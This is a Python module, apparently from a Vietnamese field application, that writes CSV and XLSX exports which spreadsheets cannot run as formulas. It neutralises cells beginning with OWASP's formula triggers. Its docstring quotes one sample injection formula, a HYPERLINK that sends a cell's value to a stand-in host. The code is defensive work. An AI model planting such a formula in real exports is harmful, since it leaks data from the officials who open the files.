"""Spreadsheets people can open: CSV with a BOM (Excel reads it as UTF-8), and real XLSX, both inert.

Why inert: the lists of people supported are official evidence that officers open in Excel, and their
text comes from the field (a name a volunteer typed). A cell that Excel or LibreOffice would run as a
formula (``=HYPERLINK("http://x/?q="&B2,"Xem")``) must stay text: OWASP's CSV-injection guidance.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime

from fieldapp.clock import VIETNAM

#: What makes a spreadsheet read a text cell as a formula (OWASP): =, +, -, @, tab, carriage return.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def vn_date(moment: datetime | date | None) -> str:
    """dd/mm/yyyy in Vietnam's time zone, as people write dates."""
    if moment is None:
        return ""
    if isinstance(moment, datetime):
        moment = moment.astimezone(VIETNAM)
        return moment.strftime("%d/%m/%Y %H:%M")
    return moment.strftime("%d/%m/%Y")


def inert_text(value: str) -> str:
    """A CSV text cell no spreadsheet runs: one that starts with a formula trigger (after any leading
    spaces, which Excel skips) gets a leading apostrophe, which Excel shows as text and hides."""
    if value.lstrip(" ").startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _csv_cell(value):
    return inert_text(value) if isinstance(value, str) else value


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([_csv_cell(header) for header in headers])
    writer.writerows([_csv_cell(value) for value in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_bytes(title: str, headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """A workbook of one sheet (:func:`xlsx_book`)."""
    return xlsx_book([(title, headers, rows)])


def xlsx_book(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence]]]) -> bytes:
    """A workbook of ``(title, headers, rows)`` sheets, in order, each with its header row in bold, whose
    text cells are strings, never formulas (openpyxl would take any text starting with ``=`` for one);
    the text itself is kept as it was, since a string cell is inert."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    bold = Font(bold=True)
    for title, headers, rows in sheets:
        sheet = book.create_sheet(title[:31])

        def cell(value, font=None, sheet=sheet):
            written = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                written.data_type = "s"
            if font is not None:
                written.font = font
            return written

        sheet.append([cell(header, bold) for header in headers])
        for row in rows:
            sheet.append([cell(value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
